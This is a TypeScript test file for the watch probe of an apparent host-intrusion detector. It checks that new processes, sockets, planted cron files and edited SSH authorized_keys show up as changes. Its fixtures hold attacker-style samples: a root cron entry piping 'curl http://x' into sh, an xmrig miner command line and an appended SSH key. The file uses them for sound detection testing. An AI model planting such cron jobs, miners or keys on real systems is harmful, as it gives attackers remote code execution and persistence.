// The watch probe on a temp root: equal looks are no change; a new process, a new socket, a planted
// cron file, an edit in place and a file's removal each show up as a change of the right kind.
import { mkdirSync, mkdtempSync, rmSync, unlinkSync, utimesSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { changed, diffProbes, probeRoot } from './watch-probe.js';

let root = '';
const put = (rel: string, text: string) => {
  mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
  writeFileSync(path.join(root, rel), text);
};
const TCP_HEAD =
  '  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode\n';
const tcpLine = (inode: number, queue = '00000000:00000000') =>
  `   0: 0100007F:1F90 0100007F:0D3D 01 ${queue} 00:00000000 00000000  1000        0 ${inode} 1 0 20 4 -1\n`;

beforeEach(() => {
  root = mkdtempSync(path.join(os.tmpdir(), 'minehunter-watch-probe-'));
  put('etc/passwd', 'root:x:0:0:root:/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/sh\n');
  put('etc/cron.d/.placeholder', '');
  put('proc/1/cmdline', '/sbin/init\0');
  put('proc/net/tcp', TCP_HEAD + tcpLine(111));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

describe('watch probe', () => {
  it('sees no change between two looks at an unchanged root', () => {
    expect(changed(diffProbes(probeRoot(root), probeRoot(root)))).toBe(false);
  });

  it('counts a new process and a new socket, and ignores queue counters', () => {
    const before = probeRoot(root);
    put('proc/4242/cmdline', 'xmrig\0-o\0pool:3333\0');
    put('proc/net/tcp', TCP_HEAD + tcpLine(111, '00000010:00000000') + tcpLine(222));
    const d = diffProbes(before, probeRoot(root));
    expect(d).toMatchObject({
      newProcesses: 1,
      goneProcesses: 0,
      newSockets: 1,
      goneSockets: 0,
      changedPlaces: [],
    });
  });

  it('names a planted cron file, an edited authorized_keys and a removed file', () => {
    put('home/alice/.ssh/authorized_keys', 'ssh-ed25519 AAAA one\n');
    const before = probeRoot(root);
    put('etc/cron.d/update', '* * * * * root curl http://x | sh\n');
    const keys = path.join(root, 'home/alice/.ssh/authorized_keys');
    writeFileSync(keys, 'ssh-ed25519 AAAA one\nssh-ed25519 BBBB two\n');
    utimesSync(keys, new Date(), new Date(Date.now() + 5000));
    const after = probeRoot(root);
    // The files the content scan reads: the planted and the edited one, not their directories.
    expect(diffProbes(before, after).changedFiles).toEqual([
      'etc/cron.d/update',
      'home/alice/.ssh/authorized_keys',
    ]);
    expect(diffProbes(before, after).changedPlaces.sort()).toEqual([
      'etc/cron.d',
      'home/alice/.ssh',
      'home/alice/.ssh/authorized_keys',
    ]);
    unlinkSync(path.join(root, 'etc/cron.d/update'));
    expect(diffProbes(after, probeRoot(root)).changedPlaces).toEqual(['etc/cron.d']);
  });
});
